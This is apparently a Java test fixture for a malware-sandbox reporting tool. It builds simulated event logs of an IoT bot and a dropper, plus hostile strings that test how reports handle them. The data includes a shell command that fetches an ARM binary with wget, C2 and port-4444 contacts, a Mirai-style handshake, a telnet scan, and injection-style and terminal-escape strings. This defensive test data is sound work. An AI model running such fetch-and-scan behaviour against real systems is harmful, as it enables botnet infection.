package org.malassay.reports.interop;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.stream.Stream;
import org.malassay.behavior.Conversation;
import org.malassay.behavior.Endpoint;
import org.malassay.behavior.Event;
import org.malassay.behavior.EventLog;
import org.malassay.behavior.Facet;
import org.malassay.behavior.FacetState;
import org.malassay.behavior.FileKept;
import org.malassay.behavior.Origin;
import org.malassay.behavior.ProcessBegun;
import org.malassay.behavior.ProcessEnded;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.Question;
import org.malassay.behavior.Recording;
import org.malassay.behavior.SystemCall;
import org.malassay.environment.Piece;
import org.malassay.options.Options;
import org.malassay.report.Report;
import org.malassay.report.Runs;
import org.malassay.reports.MadeUp;
import org.malassay.run.Result;
import org.malassay.run.RunDirectory;

/** A small recorded run, and what reports made of it. */
final class Recorded {
  /** What the simulated Internet answered when it was asked for names: no facts of the sample. */
  static final List<String> ANSWERS =
      List.of("198.18.7.9", "2001:2:0:1122:3344:5566:7788:99aa", "203.0.113.80", "198.19.1.1");

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Endpoint RESOLVER = new Endpoint("192.168.1.1", 53);

  private Recorded() {}

  /** A bot: it asks for names, contacts, scans, drops two files and starts a shell. */
  static List<Event> bot() {
    List<Event> events = new ArrayList<>();
    events.add(new ProcessBegun(Duration.ZERO, Origin.HOST_KERNEL, 7, 1));
    events.add(started(7, "/tmp/bot", "bot"));
    events.add(new ProcessBegun(Duration.ofMillis(20), Origin.HOST_KERNEL, 8, 7));
    events.add(started(8, "/bin/sh", "sh", "-c", "wget http://files.example/bins/arm7"));
    events.add(question("dns", RESOLVER, "A cnc.example", ANSWERS.get(0)));
    events.add(question("dns", RESOLVER, "AAAA cnc.example", ANSWERS.get(1)));
    events.add(question("dns", RESOLVER, "A files.example", ANSWERS.get(2)));
    events.add(question("dns", RESOLVER, "PTR 9.7.18.198.in-addr.arpa", "host-1.example."));
    events.add(conversation("udp", RESOLVER, "dns", ""));
    events.add(conversation("udp", new Endpoint("8.8.8.8", 53), "dns", ""));
    events.add(conversation("tcp", new Endpoint(ANSWERS.get(0), 6667), "irc", "NICK bot"));
    Endpoint files = new Endpoint(ANSWERS.get(2), 8080);
    events.add(question("http", files, "GET http://files.example:8080/bins/arm7?a=b c", "200"));
    events.add(question("http", files, "GET http://" + ANSWERS.get(0) + "/x", "404"));
    events.add(question("http", files, "GET http://" + ANSWERS.get(3) + "/y", "404"));
    events.add(conversation("tcp", files, "http", "GET /\r\nUser-Agent: Bot/1 \r\n"));
    events.add(
        question("tls", new Endpoint(ANSWERS.get(1), 443), "hello gate.example, TLS 1.2", ""));
    events.add(conversation("tcp", new Endpoint(ANSWERS.get(1), 443), "tls", ""));
    events.add(conversation("tcp", new Endpoint(ANSWERS.get(3), 80), "http", ""));
    events.add(conversation("tcp", new Endpoint("198.51.100.23", 4444), "", "hello"));
    events.add(conversation("tcp", new Endpoint("2001:db8::7", 4445), "mirai", "\0\0\0\1"));
    for (int i = 1; i <= 20; i++) {
      events.add(conversation("tcp", new Endpoint("192.0.2." + i, 23), "telnet", ""));
    }
    events.add(connect(new Endpoint("198.51.100.23", 4444)));
    events.add(connect(new Endpoint("203.0.113.200", 9999)));
    events.add(opened("/tmp/x"));
    events.add(kept("/tmp/x", 5, 5, "ELF 32-bit LSB executable, arm"));
    events.add(kept("/var/log/all", 500, 7, "text"));
    events.add(
        new ProcessEnded(
            Duration.ofMillis(900), Origin.HOST_KERNEL, 8, OptionalInt.of(0), OptionalInt.empty()));
    return events;
  }

  /** A dropper: one of its two programs is as large as what it was given. */
  static List<Event> dropper() {
    Endpoint files = new Endpoint("198.51.100.7", 80);
    return List.of(
        question(
            "http",
            files,
            "GET http://198.51.100.7/bins/arm7",
            "200, 7056 bytes (harmless program for armhf)"),
        kept("/tmp/given", 7056, 7056, "ELF 32-bit LSB executable, arm"),
        kept("/tmp/own", 7057, 7057, "ELF 32-bit LSB executable, arm"));
  }

  static ProgramStarted started(int process, String program, String... arguments) {
    return new ProgramStarted(
        Duration.ofMillis(1), Origin.HOST_KERNEL, process, program, List.of(arguments), false);
  }

  static Question question(String protocol, Endpoint peer, String asked, String answer) {
    return new Question(
        Duration.ofMillis(100),
        Origin.NETWORK,
        OptionalInt.of(7),
        protocol,
        new Endpoint("192.168.1.50", 40000 + peer.port()),
        peer,
        asked,
        answer);
  }

  static Conversation conversation(String transport, Endpoint peer, String protocol, String sent) {
    return new Conversation(
        Duration.ofMillis(100),
        Origin.NETWORK,
        Duration.ofMillis(250),
        OptionalInt.of(7),
        transport,
        new Endpoint("192.168.1.50", 40000 + peer.port()),
        peer,
        Optional.of(protocol).filter(it -> !it.isEmpty()),
        sent.length(),
        3,
        sent,
        "",
        Optional.empty());
  }

  static SystemCall connect(Endpoint to) {
    return call("connect", Optional.empty(), Optional.of(to));
  }

  private static SystemCall opened(String path) {
    return call("openat", Optional.of(path), Optional.empty());
  }

  private static SystemCall call(String name, Optional<String> path, Optional<Endpoint> to) {
    return new SystemCall(
        Duration.ofMillis(50),
        Origin.HOST_KERNEL,
        Duration.ZERO,
        7,
        7,
        name,
        List.of("3", "\"x\"", "O_WRONLY|O_CREAT|O_TRUNC", "0644"),
        path,
        Optional.empty(),
        to,
        OptionalInt.empty(),
        0,
        Optional.empty());
  }

  static FileKept kept(String path, long size, long kept, String type) {
    return new FileKept(
        Duration.ofSeconds(1),
        Origin.AGENT,
        path,
        size,
        kept,
        MadeUp.sha256(path),
        type,
        "files.zip");
  }

  static Result bot(String environment) {
    return MadeUp.row(environment, "bots/bot.arm7").recording(recording()).build();
  }

  private static Recording recording() {
    return Recording.OFF
        .with(Facet.NETWORK, FacetState.OBSERVED)
        .with(Facet.PROCESSES, FacetState.cut(3, "a flood"))
        .with(Facet.CALLS, FacetState.missing("no rights"));
  }

  /** The bot in two environments, and a file that did not run. */
  static RunDirectory run(Path runs) throws IOException {
    Result first = bot("container");
    RunDirectory run =
        MadeUp.run(
            runs,
            List.of(
                first,
                bot("raspbian"),
                MadeUp.row("container", "broken").inconclusive("the engine is gone").build()));
    record(run, first, bot().stream());
    return run;
  }

  static RunDirectory run(Path runs, Result result, Stream<? extends Event> events)
      throws IOException {
    RunDirectory run = MadeUp.run(runs, List.of(result));
    record(run, result, events);
    return run;
  }

  /** Names, hosts and paths of a sample that means harm to whoever reads them. */
  private static Stream<Event> hostile() {
    Endpoint peer = new Endpoint("198.51.100.9", 80);
    return Stream.concat(
            MadeUp.HOSTILE_NAMES.stream(),
            Stream.of("\ud800", "x".repeat(1 << 20), "' OR [x] \\", "\u001b[2J", ""))
        .flatMap(
            text ->
                Stream.of(
                    started(9, text, text, text),
                    question("dns", peer, "A " + text, text),
                    question("dns", peer, text, text),
                    question("http", peer, "GET http://" + text, text),
                    question("http", peer, "GET http://a.example/" + text, text),
                    question("tls", peer, "hello " + text, text),
                    conversation(text, new Endpoint(text, 80), text, text),
                    conversation("tcp", peer, text, "User-Agent: " + text),
                    connect(new Endpoint(text, 1)),
                    kept("/tmp/" + text, 5, 5, text)));
  }

  /** Samples of hostile names, the first of which does what means harm to a reader. */
  static RunDirectory hostileRun(Path runs) throws IOException {
    List<Result> results =
        MadeUp.HOSTILE_NAMES.stream().map(name -> MadeUp.row("container", name).build()).toList();
    RunDirectory run = MadeUp.run(runs, results);
    record(run, results.get(0), hostile());
    return run;
  }

  static void record(RunDirectory run, Result result, Stream<? extends Event> events)
      throws IOException {
    try (EventLog log =
        EventLog.open(
            run.evidence(result).stream(
                new Piece(EventLog.FILE, "what was seen", "application/gzip", Origin.HOST)),
            MadeUp.STARTED.plusSeconds(40),
            EventLog.Bounds.DEFAULT)) {
      events.forEach(log::accept);
    }
  }

  static Path write(Report report, RunDirectory run, Map<String, String> options)
      throws IOException {
    return report.write(Runs.of(run), Options.of(options));
  }

  /** All documents that a report wrote, by their names. */
  static List<JsonNode> documents(Path written) throws IOException {
    try (Stream<Path> files = Files.walk(written)) {
      return files
          .filter(file -> file.toString().endsWith(".json"))
          .filter(file -> !file.endsWith("manifest.json"))
          .sorted()
          .map(Recorded::read)
          .toList();
    }
  }

  static JsonNode read(Path file) {
    try {
      return JSON.readTree(Files.readAllBytes(file));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** What was written when somebody last looked at it. */
  static JsonNode golden(String name) {
    return read(Path.of("src/test/resources/org/malassay/reports/interop", name));
  }
}
